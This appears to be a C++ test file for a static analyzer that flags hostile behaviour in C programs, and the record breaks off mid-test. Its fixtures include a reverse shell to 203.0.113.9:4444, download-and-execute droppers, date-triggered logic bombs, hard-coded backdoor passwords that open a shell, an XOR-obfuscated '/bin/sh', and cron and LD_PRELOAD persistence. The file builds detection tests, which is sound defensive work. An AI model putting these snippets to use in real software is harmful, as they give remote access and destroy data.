// Capabilities, guards and behaviours on small real programs (through Clang)
// and on hand-made facts (the manifest, its diff, the combinators).
#include "analyzer/behaviors.h"
#include "analyzer/cap_guards.h"
#include "analyzer/capabilities.h"
#include "analyzer/link.h"
#include "analyzer/program_analysis.h"
#include "analyzer/rules_loader.h"
#include "frontend/tu_runner.h"
#include "tests/test_support.h"

#include <catch2/catch.hpp>

#include <nlohmann/json.hpp>

using namespace sluice;

namespace {

using testing::builtinRules;

const char *kHeaders = R"(
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <fcntl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <netinet/in.h>
#include <arpa/inet.h>
)";

facts::TUFacts factsOf(const std::string &body, const std::string &file = "input.c") {
  TUOutcome o = analyzeCode(std::string(kHeaders) + body, file,
                            {file.size() > 4 && file.substr(file.size() - 4) == ".cpp"
                                 ? "-std=gnu++17"
                                 : "-std=gnu17"},
                            builtinRules());
  INFO("parse errors: " << o.parseErrors);
  CHECK(o.parseErrors == 0);
  return o.analysis.facts;
}

/// The findings of the whole pipeline (taint rules and behaviours) over
/// several units.
std::vector<report::Finding> scanUnits(std::vector<facts::TUFacts> units) {
  return analyzeProgram(units, builtinRules()).findings;
}

std::vector<report::Finding> scan(const std::string &body) { return scanUnits({factsOf(body)}); }

size_t count(const std::vector<report::Finding> &fs, const std::string &rule) {
  size_t n = 0;
  for (const auto &f : fs)
    n += f.ruleId == rule;
  return n;
}

/// Guard kinds on the capabilities of `kind` in function `fn`.
std::vector<std::string> guardKinds(const facts::TUFacts &t, const std::string &fn,
                                    const std::string &kind) {
  std::vector<std::string> out;
  for (const auto &f : t.functions)
    if (f.name == fn)
      for (const auto &c : f.capabilities)
        if (c.kind == kind)
          for (const auto &g : c.guards)
            out.push_back(g.kind);
  return out;
}

const facts::Capability *capability(const facts::TUFacts &t, const std::string &fn,
                                    const std::string &kind) {
  for (const auto &f : t.functions)
    if (f.name == fn)
      for (const auto &c : f.capabilities)
        if (c.kind == kind)
          return &c;
  return nullptr;
}

bool has(const std::vector<std::string> &v, const std::string &x) {
  return std::find(v.begin(), v.end(), x) != v.end();
}

} // namespace

TEST_CASE("capabilities carry their folded values", "[capabilities]") {
  auto t = factsOf(R"(
    void f(void) {
      system("rm -rf /tmp/x");
      execl("/bin/sh", "sh", "-c", "id", (char *)0);
      execl("/usr/bin/make", "make", (char *)0);
      unlink("/var/lib/app.db");
      chmod("/tmp/run.sh", 0755);
      chmod("/tmp/data.txt", 0644);
    })");
  const facts::Capability *c = capability(t, "f", "exec-shell");
  REQUIRE(c);
  CHECK(c->value == "rm -rf /tmp/x");
  size_t shells = 0, execs = 0, chmods = 0;
  for (const auto &x : t.functions[0].capabilities) {
    shells += x.kind == "exec-shell";
    execs += x.kind == "exec";
    chmods += x.kind == "file-chmod-exec";
  }
  CHECK(shells == 2);         // system() and execl of a shell
  CHECK(execs == 1);          // make is a program, not a shell
  CHECK(chmods == 1);         // 0644 sets no execute bit
  REQUIRE(capability(t, "f", "file-delete"));
  CHECK(capability(t, "f", "file-delete")->value == "/var/lib/app.db");
}

TEST_CASE("values fold through unchanged configuration records", "[capabilities]") {
  auto t = factsOf(R"(
    struct cfg { int uid; int gid; };
    static const struct cfg kRoot = { .gid = 5 };               // uid left out: 0
    static struct cfg g_fixed = { 0, 0 };                       // never changed
    static struct cfg g_set = { 0, 0 };                         // a member is written
    static struct cfg g_leaked = { 0, 0 };                      // address to a non-const pointer
    static struct cfg g_user = { 1000, 1000 };
    static void touch(struct cfg *c) { (void)c; }
    static int viaFixed(const struct cfg *c) { return setuid(c->uid); }
    static int viaMixed(const struct cfg *c) { return setuid(c->uid); }
    int viaExported(const struct cfg *c) { return setuid(c->uid); }
    int (*pointer)(const struct cfg *) = 0;
    static int viaPointer(const struct cfg *c) { return setgid(c->gid); }
    void a(void) { setuid(kRoot.uid); }
    void b(void) { setuid(g_fixed.uid); viaFixed(&g_fixed); viaExported(&g_fixed); }
    void c(void) { g_set.uid = getuid(); setuid(g_set.uid); }
    void d(void) { touch(&g_leaked); setuid(g_leaked.uid); }
    void e(void) { viaMixed(&g_fixed); viaMixed(&g_user); }
    void f(void) { pointer = viaPointer; viaPointer(&g_fixed); }
  )");
  auto value = [&](const std::string &fn) {
    const facts::Capability *c = capability(t, fn, "priv-change");
    REQUIRE(c);
    return c->value;
  };
  CHECK(value("a") == "0");          // const, a member left out of the list
  CHECK(value("b") == "0");          // internal, never written
  CHECK(value("viaFixed") == "0");   // every caller passes &g_fixed
  CHECK(value("c").empty());         // written before use
  CHECK(value("d").empty());         // may be written through touch()
  CHECK(value("viaMixed").empty());  // callers disagree
  CHECK(value("viaExported").empty());  // callers elsewhere may pass anything
  CHECK(value("viaPointer").empty());   // called through a pointer too

  // C++: assignment and non-const member functions are calls.
  auto cxx = factsOf(R"(
    struct cfg { int uid; void reset() { uid = 1000; } };
    static cfg g_reset = {0};
    static cfg g_assigned = {0};
    static const cfg kOther = {1000};
    static cfg g_kept = {0};
    static const cfg kKept = {0};
    void a() { g_reset.reset(); setuid(g_reset.uid); }
    void b() { g_assigned = kOther; setuid(g_assigned.uid); }
    void c() { setuid(kKept.uid); }
    void d() { setuid(g_kept.uid); }  // C++: only const records fold
  )", "input.cpp");
  auto cxxValue = [&](const std::string &fn) {
    const facts::Capability *c = capability(cxx, fn, "priv-change");
    REQUIRE(c);
    return c->value;
  };
  CHECK(cxxValue("a").empty());
  CHECK(cxxValue("b").empty());
  CHECK(cxxValue("c") == "0");
  CHECK(cxxValue("d").empty());

  // The list's slots: unnamed bit-fields have none; bit-fields do not fold.
  auto bits = factsOf(R"(
    struct flags { int a; int : 3; int uid; int small : 1; };
    static struct flags g_flags = { 7, 0, 1 };  // never written: folded by the unit
    void a(void) { setuid(g_flags.uid); }
    void b(void) { setuid(g_flags.small); }
  )");
  const facts::Capability *ua = capability(bits, "a", "priv-change");
  const facts::Capability *ub = capability(bits, "b", "priv-change");
  REQUIRE(ua);
  REQUIRE(ub);
  CHECK(ua->value == "0");
  CHECK(ub->value.empty());
}

TEST_CASE("clock guards tell absolute dates from durations", "[guards]") {
  auto t = factsOf(R"(
    void bomb(void) { time_t now = time(NULL); if (now > 1767225600) unlink("a"); }
    void fields(void) { time_t n = time(0); struct tm *tm = localtime(&n);
                        if (tm->tm_year + 1900 >= 2027) unlink("b"); }
    void early(void) { if (time(NULL) < 1767225600) return; unlink("c"); }
    void aged(const char *p) { struct stat st; stat(p, &st);
                               if (time(NULL) - st.st_mtime > 30 * 86400) unlink(p); }
    void elapsed(void) { time_t start = time(0); time_t now = time(0);
                         if (now - start > 60) unlink("d"); })");
  CHECK(has(guardKinds(t, "bomb", "file-delete"), "clock-date"));
  CHECK(has(guardKinds(t, "early", "file-delete"), "clock-date"));
  CHECK(has(guardKinds(t, "aged", "file-delete"), "clock-elapsed"));
  CHECK_FALSE(has(guardKinds(t, "aged", "file-delete"), "clock-date"));
  CHECK_FALSE(has(guardKinds(t, "elapsed", "file-delete"), "clock-date"));
  auto fields = guardKinds(t, "fields", "file-delete");
  CHECK(has(fields, "clock-date"));
}

TEST_CASE("counters are not loop variables; magic values are equalities with strings",
          "[guards]") {
  auto t = factsOf(R"(
    void counter(void) { int runs = 0; for (;;) { if (runs == 500) unlink("a"); runs++; } }
    void retry(void) { for (int i = 0; i < 5; i++) { if (i == 4) unlink("b"); } }
    void attempts(void) { int n = 0; while (n < 3) { n++; } if (n == 3) unlink("c"); }
    void magic(void) { char line[64]; if (!fgets(line, sizeof line, stdin)) return;
                       if (strcmp(line, "opensesame\n") == 0) system("/bin/sh"); }
    void count(void) { char line[64]; if (!fgets(line, sizeof line, stdin)) return;
                       if (strlen(line) > 10) system("/bin/sh"); }
    void lucky(void) { if (rand() % 1000 == 7) unlink("e"); })");
  CHECK(has(guardKinds(t, "counter", "file-delete"), "counter"));
  CHECK(guardKinds(t, "retry", "file-delete").empty());
  CHECK(guardKinds(t, "attempts", "file-delete").empty());
  CHECK(has(guardKinds(t, "magic", "exec-shell"), "user-input"));
  CHECK_FALSE(has(guardKinds(t, "count", "exec-shell"), "user-input"));
  CHECK(has(guardKinds(t, "lucky", "file-delete"), "random"));
}

TEST_CASE("guards reach across the unit's functions", "[guards]") {
  auto t = factsOf(R"(
    static long long now_s(void) { return (long long)time(NULL); }
    static int read_code(char *out, int n) { return fgets(out, n, stdin) != NULL; }
    static void gate(const char *code) { if (strcmp(code, "xk-4471") == 0) system("/bin/sh"); }
    static void quiet(const char *code) { if (strcmp(code, "xk-4471") == 0) system("/bin/sh"); }
    void bomb(void) { if (now_s() >= 1830297600LL) unlink("/srv/db"); }
    void input(void) { char c[32]; if (read_code(c, sizeof c)) gate(c); }
    void fixed(void) { char c[32] = "abc"; quiet(c); }
    int main(int argc, char **argv) { if (argc > 1) quiet(argv[1]); return 0; })");
  // A helper's result, a helper's out-parameter, a parameter's callers.
  CHECK(has(guardKinds(t, "bomb", "file-delete"), "clock-date"));
  CHECK(has(guardKinds(t, "gate", "exec-shell"), "user-input"));
  // quiet's callers pass a constant and a command-line switch: no input.
  auto q = guardKinds(t, "quiet", "exec-shell");
  CHECK(has(q, "argument"));
  CHECK_FALSE(has(q, "user-input"));
}

TEST_CASE("a predicate helper's returned conditions guard its caller's calls", "[guards]") {
  auto t = factsOf(R"(
    static int due(void) { time_t n = time(NULL); struct tm *lt = localtime(&n);
                           int year = lt->tm_year + 1900; return year >= 2028; }
    static int old(time_t m) { return time(NULL) - m > 3600; }
    static int never(void) { return 0; }
    void bomb(void) { if (due()) unlink("/srv/db"); }
    void early(void) { if (!due()) return; unlink("/srv/db2"); }
    void stale(void) { struct stat st; stat("/run/l", &st); if (old(st.st_mtime)) unlink("/run/l"); }
    void off(void) { if (never()) unlink("/srv/db3"); })");
  CHECK(has(guardKinds(t, "bomb", "file-delete"), "clock-date"));
  CHECK(has(guardKinds(t, "early", "file-delete"), "clock-date"));
  auto s = guardKinds(t, "stale", "file-delete");
  CHECK(has(s, "clock-elapsed"));
  CHECK_FALSE(has(s, "clock-date"));
  CHECK(guardKinds(t, "off", "file-delete").empty());
}

TEST_CASE("credentials are told from words, options, versions and signatures", "[grants]") {
  for (const char *yes : {"\"Kx!service2019\"", "\"r0uter#svc\"", "\"7f3c9a1be04d2e58\"",
                          "\"Adm1nPassw0rd\"", "\"203.0.113.77\""})
    CHECK(looksLikeCredential(yes));
  for (const char *no : {"\"quit\"", "\"--verbose\"", "\"HTTP/1.1\"", "\"GIF89a\"",
                         "\"%PDF-1.4\"", "\"127.0.0.1\"", "\"0.0.0.0\"", "\"1.2.3\"",
                         "\"maint_admin\"", "\"application/json\"", "\"log level 3\"",
                         "\"x86_64\"", "\"sha256\"", "42", "\"a\\nb12345!\"",
                         "\"4294967298.1.1.1\"", "\"1.2.3.256\"", "\"1..2.3\""})
    CHECK_FALSE(looksLikeCredential(no));
}

TEST_CASE("access granted on a hard-coded credential, not on other constants", "[grants]") {
  auto t = factsOf(R"(
    static int check_db(const char *pw) { return strlen(pw) > 40; }
    static int login(const char *pw) {
      if (strcmp(pw, "Vend0r#Reset") == 0) return 1;
      return check_db(pw);
    }
    static int refuse(const char *pw) { if (strcmp(pw, "admin123!") == 0) return -1; return 0; }
    static int quit(const char *w) { if (strcmp(w, "quit") == 0) return 1; return 0; }
    static int early(const char *pw) { if (strcmp(pw, "Vend0r#Reset") != 0) return 0; return 1; }
    static int pinned(const char *pw) { return strcmp(pw, "Vend0r#Reset") == 0; }
    static int cfg(const char *key) { if (strcmp(key, "Vend0r#Reset") == 0) return 1; return 0; }
    int main(int argc, char **argv) {
      char line[64];
      if (!fgets(line, sizeof line, stdin)) return 1;
      return login(line) + refuse(line) + quit(line) + early(line) + pinned(line) +
             (argc > 1 ? cfg(argv[1]) : 0);
    })");
  for (const char *fn : {"login", "early", "pinned"}) {
    INFO(fn);
    const facts::Capability *c = capability(t, fn, "access-grant");
    REQUIRE(c);
    REQUIRE_FALSE(c->guards.empty());
    CHECK(c->guards.front().kind == "user-input");
    CHECK(c->guards.front().constant == "\"Vend0r#Reset\"");
  }
  CHECK(capability(t, "login", "access-grant")->value == "the success returned by");
  CHECK(capability(t, "pinned", "access-grant")->value == "the comparison returned by");
  CHECK_FALSE(capability(t, "refuse", "access-grant"));  // a refusal, not a grant
  CHECK_FALSE(capability(t, "quit", "access-grant"));    // a word
  CHECK_FALSE(capability(t, "cfg", "access-grant"));     // a command-line switch
}

TEST_CASE("decoding loops are recognised and folded", "[obfuscation]") {
  auto t = factsOf(R"(
    static const unsigned char enc[] = {0x6d, 0x20, 0x2b, 0x2c, 0x6d, 0x31, 0x2a, 0x42};
    void run(void) { char cmd[8]; for (int i = 0; i < 8; i++) cmd[i] = enc[i] ^ 0x42;
                     execl(cmd, cmd, (char *)0); }
    void built(void) { char h[8]; h[0] = 'e'; h[1] = 'v'; h[2] = 'i'; h[3] = 'l'; h[4] = 0;
                       connect(0, 0, 0); }
    unsigned sum(const unsigned char *b, int n) { unsigned s = 0;
                       for (int i = 0; i < n; i++) s ^= b[i]; return s; })");
  const facts::Capability *d = capability(t, "run", "decode-loop");
  REQUIRE(d);
  CHECK(d->value == "/bin/sh");
  const facts::Capability *b = capability(t, "built", "char-built-string");
  REQUIRE(b);
  CHECK(b->value == "evil");
  CHECK_FALSE(capability(t, "sum", "decode-loop"));  // a checksum is not a decoder
}

TEST_CASE("behaviours combine capabilities along calls", "[behaviors]") {
  // The guard sits in the caller, the deletion in a helper.
  auto bomb = scan(R"(
    static void wipe(void) { unlink("/var/lib/app/data.db"); }
    int main(void) { if (time(NULL) > 1767225600) wipe(); return 0; })");
  CHECK(count(bomb, "behavior.logic-bomb") == 1);
  auto cleanup = scan(R"(
    static void purge(const char *p) { unlink(p); }
    int main(int argc, char **argv) { struct stat st;
      if (argc > 1 && stat(argv[1], &st) == 0 && time(NULL) - st.st_mtime > 7 * 86400)
        purge(argv[1]);
      return 0; })");
  CHECK(count(cleanup, "behavior.logic-bomb") == 0);

  const char *shell = R"(
    int main(void) {
      int s = socket(AF_INET, SOCK_STREAM, 0);
      struct sockaddr_in a = {0};
      a.sin_family = AF_INET; a.sin_port = htons(4444);
      a.sin_addr.s_addr = inet_addr("203.0.113.9");
      connect(s, (struct sockaddr *)&a, sizeof a);
      for (int fd = 0; fd < 3; fd++) dup2(s, fd);
      %s
      return 0; })";
  char bad[1024], late[1024];
  snprintf(bad, sizeof bad, shell, "execl(\"/bin/sh\", \"sh\", (char *)0);");
  CHECK(count(scan(bad), "behavior.reverse-shell") == 1);
  // dup2 of a file onto stdout then a shell is a log redirect, not a shell
  // handed to a peer.
  CHECK(count(scan(R"(
    int main(void) { int log = open("/var/log/app.log", O_WRONLY | O_APPEND);
      dup2(log, 1); execl("/bin/sh", "sh", "-c", "date", (char *)0); return 0; })"),
              "behavior.reverse-shell") == 0);
  // The socket made by a helper and returned: the link step settles that
  // the descriptor given to dup2 is a socket.
  CHECK(count(scan(R"(
    static int dial(void) { int s = socket(AF_INET, SOCK_STREAM, 0);
      struct sockaddr_in a = {0}; a.sin_addr.s_addr = inet_addr("198.51.100.4");
      connect(s, (struct sockaddr *)&a, sizeof a); return s; }
    static void attach(int fd) { for (int i = 0; i < 3; i++) dup2(fd, i); }
    int main(void) { int s = dial(); attach(s); execl("/bin/bash", "bash", "-i", (char *)0);
      return 0; })"), "behavior.reverse-shell") == 1);
  CHECK(count(scan(R"(
    static int logfile(void) { return open("/var/log/x.log", O_WRONLY | O_APPEND); }
    static void attach(int fd) { dup2(fd, 1); dup2(fd, 2); }
    int main(void) { attach(logfile()); execl("/bin/sh", "sh", "-c", "date", (char *)0);
      return 0; })"), "behavior.reverse-shell") == 0);
  // A download copied into the caller's file by a helper that opens none
  // is the caller's file; a helper with a file of its own writes that one.
  const char *copier = R"(
    static void copy(int from, int to) { char b[512]; long n;
      while ((n = read(from, b, sizeof b)) > 0) write(to, b, n); }
    static void fetch_cache(int s) { char b[512]; long n;
      int c = open("/var/cache/x.dat", O_WRONLY | O_CREAT, 0644);
      while ((n = recv(s, b, sizeof b, 0)) > 0) write(c, b, n); }
    int main(void) { int s = socket(AF_INET, SOCK_STREAM, 0);
      struct sockaddr_in a = {0}; connect(s, (struct sockaddr *)&a, sizeof a);
      int f = open("/tmp/upd", O_WRONLY | O_CREAT, 0700);
      %s
      chmod("/tmp/upd", 0755); execl("/tmp/upd", "upd", (char *)0); return 0; })";
  char viaCopy[2048], viaCache[2048];
  snprintf(viaCopy, sizeof viaCopy, copier, "copy(s, f);");
  snprintf(viaCache, sizeof viaCache, copier, "fetch_cache(s); write(f, \"#!/bin/sh\\n\", 10);");
  CHECK(count(scan(viaCopy), "behavior.dropper") == 2);  // at the chmod and at the exec
  CHECK(count(scan(viaCache), "behavior.dropper") == 0);
  // The shell must come after the redirection.
  snprintf(late, sizeof late,
           "int main(void){ system(\"/bin/sh -c true\"); int s = socket(AF_INET, SOCK_STREAM, 0);"
           " dup2(s, 0); return 0; }");
  CHECK(count(scan(late), "behavior.reverse-shell") == 0);
}

TEST_CASE("the manifest lists entry points with call paths and guards", "[manifest]") {
  std::vector<facts::TUFacts> units{factsOf(R"(
    static void fetch(void) { int s = socket(AF_INET, SOCK_STREAM, 0);
      struct sockaddr_in a = {0}; a.sin_addr.s_addr = inet_addr("45.61.136.12");
      connect(s, (struct sockaddr *)&a, sizeof a); }
    static void step(void) { fetch(); }
    int main(void) { step(); return 0; }
    __attribute__((constructor)) static void early(void) { setenv("LD_PRELOAD", "x", 1); })")};
  ProgramGraph g = ProgramGraph::build(units);
  Manifest m = buildManifest(g, builtinRules());
  const EntryPoint *main = nullptr, *ctor = nullptr;
  for (const EntryPoint &e : m.entries) {
    if (e.name == "main")
      main = &e;
    if (e.name == "early")
      ctor = &e;
  }
  REQUIRE(main);
  REQUIRE(ctor);
  CHECK(main->why == "main");
  CHECK(ctor->why == "constructor");
  const CapabilityUse *connect = nullptr;
  for (const CapabilityUse &u : main->uses)
    if (u.cap.kind == "net-connect")
      connect = &u;
  REQUIRE(connect);
  CHECK(connect->cap.value == "45.61.136.12");  // the address named next to connect()
  REQUIRE(connect->path.size() == 2);
  CHECK(connect->path[0].function == "main");
  CHECK(connect->path[1].function == "step");
  // What main reaches is kept as a tree of shortest paths; a path read back
  // from it is the use's order without the capability's own position.
  size_t fetch = SIZE_MAX;
  std::vector<std::string> reached;
  for (const EntryPoint::Reached &r : main->reached) {
    reached.push_back(g.fns[r.fn]->name);
    if (g.fns[r.fn]->name == "fetch")
      fetch = r.fn;
  }
  std::sort(reached.begin(), reached.end());
  CHECK(reached == std::vector<std::string>{"fetch", "main", "step"});
  REQUIRE(fetch != SIZE_MAX);
  auto order = callOrder(g, *main, fetch);
  REQUIRE(order.size() == 2);
  CHECK(order == std::vector<std::tuple<std::string, unsigned, unsigned>>(
                     connect->order.begin(), connect->order.end() - 1));
  CHECK(std::get<1>(order[0]) == connect->path[0].call.line);
  CHECK(std::get<1>(order[1]) == connect->path[1].call.line);
  CHECK(callOrder(g, *main, main->fn).empty());
  CHECK(callOrder(g, *ctor, fetch).empty());  // not reached from there

  // A diff against a base without the connection reports it; an allow list
  // entry covers it.
  std::string json = manifestJson(m, "test");
  auto base = nlohmann::json::parse(json);
  for (auto &e : base["entryPoints"]) {
    auto &caps = e["capabilities"];
    nlohmann::json kept = nlohmann::json::array();
    for (auto &c : caps)
      if (c["kind"] != "net-connect")
        kept.push_back(c);
    caps = kept;
  }
  std::vector<NewCapability> added;
  std::string error;
  REQUIRE(diffManifest(m, base.dump(), {}, added, error));
  REQUIRE(added.size() == 1);
  CHECK(added[0].key == "net-connect 45.61.136.12");
  CHECK_FALSE(added[0].allowed);
  added.clear();
  REQUIRE(diffManifest(m, base.dump(), parseAllowList("# ok\nnet-connect 45.61.*\n"), added, error));
  REQUIRE(added.size() == 1);
  CHECK(added[0].allowed);
  added.clear();
  REQUIRE(diffManifest(m, json, {}, added, error));
  CHECK(added.empty());
  CHECK_FALSE(diffManifest(m, "{\"entryPoints\": []}", {}, added, error));
  CHECK(error.find("not a Sluice capability manifest") != std::string::npos);
}

TEST_CASE("behaviour rules load with their combinators and are checked", "[behaviors][rules]") {
  RuleSet r;
  std::vector<RuleError> errors;
  const char *good = R"(
behavior:
  id: behavior.x
  name: X
  level: error
  cwe: [506]
  security-severity: "9.0"
  scope: function
  when:
    all:
      - any:
          - capability: net-receive
            as: a
          - capability: memfd
            as: a
      - capability: exec
        as: b
        after: a
      - not:
          capability: exec
          value: ["/usr/bin/*"]
          same-value: b
  message: "{a} then {b}"
  short: s
  full: f
  help: h
)";
  REQUIRE(loadRuleText(good, "behavior.x.yaml", r, errors));
  REQUIRE(r.behaviors.size() == 1);
  CHECK(r.behaviors[0].root.op == BehaviorNode::All);
  CHECK(r.behaviors[0].root.children.size() == 3);
  CHECK(r.behaviors[0].root.children[2].op == BehaviorNode::Not);

  std::string bad = good;
  bad.replace(bad.find("after: a"), 8, "after: z");
  errors.clear();
  CHECK_FALSE(loadRuleText(bad, "behavior.x.yaml", r, errors));
  REQUIRE_FALSE(errors.empty());
  CHECK(errors[0].message.find("'after' names 'z'") != std::string::npos);
  CHECK(errors[0].line > 0);

  std::string kind = good;
  kind.replace(kind.find("capability: memfd"), 17, "capability: teleport");
  errors.clear();
  CHECK_FALSE(loadRuleText(kind, "behavior.x.yaml", r, errors));
  CHECK(errors[0].message.find("unknown capability kind 'teleport'") != std::string::npos);

  errors.clear();
  CHECK_FALSE(loadRuleText(good, "behavior.y.yaml", r, errors));  // id names the file
  CHECK(errors[0].message.find("does not match its file name") != std::string::npos);

  errors.clear();
  CHECK_FALSE(loadRuleText("models:\n  - capability: exec\n    functions: [f]\n"
                           "    when: [\"zero@arg1\", \"bogus\"]\n    why: w\n",
                           "m.yaml", r, errors));
  CHECK(errors[0].message.find("unknown condition 'bogus'") != std::string::npos);
  errors.clear();
  CHECK(loadRuleText("models:\n  - capability: tls-verify-off\n    functions: [f]\n"
                     "    when: \"always-true@arg2\"\n    why: w\n",
                     "m.yaml", r, errors));
  CHECK_FALSE(loadRuleText("models:\n  - capability: tls-verify-off\n    functions: [f]\n"
                           "    when: \"always-true@cb\"\n    why: w\n",
                           "m.yaml", r, errors));
}

TEST_CASE("a callback that says yes on every path", "[capabilities]") {
  RuleSet rules = builtinRules();
  std::vector<RuleError> errors;
  REQUIRE(loadRuleText("models:\n  - capability: tls-verify-off\n    functions: [set_check]\n"
                       "    when: \"always-true@arg2\"\n    why: w\n",
                       "extra.yaml", rules, errors));
  auto again = analyzeCode(std::string(kHeaders) + R"(
    typedef int (*cb)(int, void *);
    void set_check(void *ctx, int mode, cb f);
    static int yes(int ok, void *s) { (void)s; if (!ok) return 1; return 1; }
    static int keep(int ok, void *s) { (void)s; return ok; }
    static int pinned(int ok, void *s) { return s ? 1 : 0; }
    void a(void *c) { set_check(c, 1, yes); }
    void b(void *c) { set_check(c, 1, &keep); }
    void d(void *c) { set_check(c, 1, pinned); }
    void e(void *c) { set_check(c, 1, (cb)yes); })",
                           "input.c", {"-std=gnu17"}, rules);
  std::set<std::string> off;
  for (const facts::FunctionFacts &f : again.analysis.facts.functions)
    for (const facts::Capability &c : f.capabilities)
      if (c.kind == "tls-verify-off")
        off.insert(f.name);
  CHECK(off == std::set<std::string>{"a", "e"});

  // Captureless lambdas converted to the function pointer, or written +[].
  auto cxx = analyzeCode(std::string(kHeaders) + R"(
    typedef int (*cb)(int, void *);
    void set_check(void *ctx, int mode, cb f);
    void g(void *c) { set_check(c, 1, [](int, void *) { return 1; }); }
    void h(void *c) { set_check(c, 1, +[](int ok, void *) { return ok; }); }
    void k(void *c) { set_check(c, 1, +[](int, void *) -> int { return 2; }); })",
                         "input.cpp", {"-std=gnu++17"}, rules);
  off.clear();
  for (const facts::FunctionFacts &f : cxx.analysis.facts.functions)
    for (const facts::Capability &c : f.capabilities)
      if (c.kind == "tls-verify-off")
        off.insert(f.name);
  CHECK(off == std::set<std::string>{"g", "k"});
}

TEST_CASE("guards are read in the direction the call runs", "[guards]") {
  auto t = factsOf(R"(
    void expiry(char **argv) { if (time(NULL) > 1798761600) { puts("expired"); return; }
                               execvp(argv[0], argv); }
    void quit(void) { char line[64]; if (!fgets(line, sizeof line, stdin)) return;
                      if (strcmp(line, "quit\n") == 0) return; system("/bin/sh"); }
    void unless(void) { char line[64]; if (!fgets(line, sizeof line, stdin)) return;
                        if (strcmp(line, "xyzzy\n") != 0) return; system("/bin/sh"); }
    void friday(void) { time_t n = time(0); struct tm tm; localtime_r(&n, &tm);
      switch (tm.tm_mday) { case 13: puts("unlucky"); unlink("/var/db/main.db"); break;
                            default: break; } }
    void sampled(void) { if (rand() % 100 < 5) unlink("/tmp/cache.bin"); })");
  auto expiry = guardKinds(t, "expiry", "exec");
  CHECK(has(expiry, "clock-before"));
  CHECK_FALSE(has(expiry, "clock-date"));
  auto quit = guardKinds(t, "quit", "exec-shell");
  CHECK_FALSE(has(quit, "user-input"));  // runs when the input is NOT "quit"
  CHECK(has(quit, "not-user-input"));
  CHECK(has(guardKinds(t, "unless", "exec-shell"), "user-input"));
  CHECK(has(guardKinds(t, "friday", "file-delete"), "clock-date"));  // case body, localtime_r
  CHECK(guardKinds(t, "sampled", "file-delete").empty());  // a sampling rate, not a trigger
  // Guard constants are one line.
  auto q = factsOf(R"(void f(void){ char l[9]; if (!fgets(l, 9, stdin)) return;
                      if (strcmp(l, "go\n") == 0) system("/bin/sh"); })");
  const facts::Capability *c = capability(q, "f", "exec-shell");
  REQUIRE(c);
  REQUIRE_FALSE(c->guards.empty());
  CHECK(c->guards[0].constant == "\"go\\n\"");
}

TEST_CASE("names: algorithms and methods are not the C functions they resemble",
          "[capabilities]") {
  auto t = factsOf(R"(
    #include <algorithm>
    #include <vector>
    namespace net { int send(int a) { return a; } }
    struct Store { bool remove(const char *) { return true; } };
    void f(std::vector<int> &v, Store &s) {
      v.erase(std::remove(v.begin(), v.end(), 3), v.end());
      s.remove("/etc/passwd");
      net::send(1);
      remove("/tmp/x.lock");
    })", "input.cpp");
  size_t deletes = 0, sends = 0;
  for (const auto &fn : t.functions)
    if (fn.name == "f")
      for (const auto &c : fn.capabilities) {
        deletes += c.kind == "file-delete";
        sends += c.kind == "net-send";
      }
  CHECK(deletes == 1);  // only ::remove
  CHECK(sends == 0);
}

TEST_CASE("files: append is told from write; helpers take each caller's path",
          "[capabilities]") {
  auto t = factsOf(R"(
    void f(void) { fopen("/home/u/.bashrc", "a"); fopen("/tmp/out.txt", "w"); })");
  const facts::Capability *a = capability(t, "f", "file-append");
  const facts::Capability *w = capability(t, "f", "file-write");
  REQUIRE(a);
  REQUIRE(w);
  CHECK(a->value == "/home/u/.bashrc");
  CHECK(w->value == "/tmp/out.txt");

  std::vector<facts::TUFacts> units{factsOf(R"(
    static void save(const char *path, const char *text) {
      FILE *f = fopen(path, "w"); if (f) { fputs(text, f); fclose(f); } }
    int main(void) { save("/tmp/app.cache", "x"); save("/etc/cron.d/app", "* * * * * root id\n");
                     return 0; })")};
  ProgramGraph g = ProgramGraph::build(units);
  Manifest m = buildManifest(g, builtinRules());
  std::set<std::string> written;
  for (const EntryPoint &e : m.entries)
    for (const CapabilityUse &u : e.uses)
      if (u.cap.kind == "file-write")
        written.insert(u.cap.value);
  CHECK(written == std::set<std::string>{"/etc/cron.d/app", "/tmp/app.cache"});
  CHECK(count(scanUnits(units), "behavior.persistence") == 1);
}

TEST_CASE("programs scanned together do not lend each other facts", "[behaviors]") {
  // A downloader (network data into a cache file) and, in another program,
  // a script generator that runs what it wrote: no dropper in either.
  auto downloader = factsOf(R"(
    int main(void) { int s = socket(AF_INET, SOCK_STREAM, 0); char b[256];
      ssize_t n = recv(s, b, sizeof b, 0); FILE *f = fopen("/tmp/run.sh", "w");
      if (f && n > 0) fwrite(b, 1, (size_t)n, f); return 0; })", "downloader.c");
  auto generator = factsOf(R"(
    int main(void) { FILE *f = fopen("/tmp/run.sh", "w"); if (!f) return 1;
      fputs("#!/bin/sh\necho hi\n", f); fclose(f); chmod("/tmp/run.sh", 0755);
      return execl("/tmp/run.sh", "run.sh", (char *)0); })", "generator.c");
  CHECK(count(scanUnits({downloader, generator}), "behavior.dropper") == 0);
  // The same download and run in one program is a dropper, wherever the
  // download helper is defined.
  auto one = factsOf(R"(
    static void fetch(const char *path);
    int main(void) { fetch("/tmp/.u"); chmod("/tmp/.u", 0755);
                     return execl("/tmp/.u", ".u", (char *)0); }
    static void fetch(const char *path) { int s = socket(AF_INET, SOCK_STREAM, 0); char b[512];
      ssize_t n = recv(s, b, sizeof b, 0); FILE *f = fopen(path, "wb");
      if (f && n > 0) fwrite(b, 1, (size_t)n, f); })", "one.c");
  CHECK(count(scanUnits({one}), "behavior.dropper") >= 1);
}

TEST_CASE("entry points of a library, and connect peers with ports", "[manifest]") {
  std::vector<facts::TUFacts> units{factsOf(R"(
    static void helper(void) { unlink("/tmp/lib.lock"); }
    void lib_reset(void) { helper(); }
    int lib_dial(void) { int s = socket(AF_INET, SOCK_STREAM, 0); struct sockaddr_in a = {0};
      a.sin_port = htons(4444); a.sin_addr.s_addr = inet_addr("203.0.113.9");
      return connect(s, (struct sockaddr *)&a, sizeof a); })")};
  ProgramGraph g = ProgramGraph::build(units);
  Manifest m = buildManifest(g, builtinRules());
  std::map<std::string, std::string> why;
  std::string peer;
  for (const EntryPoint &e : m.entries) {
    why[e.name] = e.why;
    for (const CapabilityUse &u : e.uses)
      if (u.cap.kind == "net-connect")
        peer = u.cap.value;
  }
  CHECK(why["lib_reset"] == "exported");
  CHECK(why["lib_dial"] == "exported");
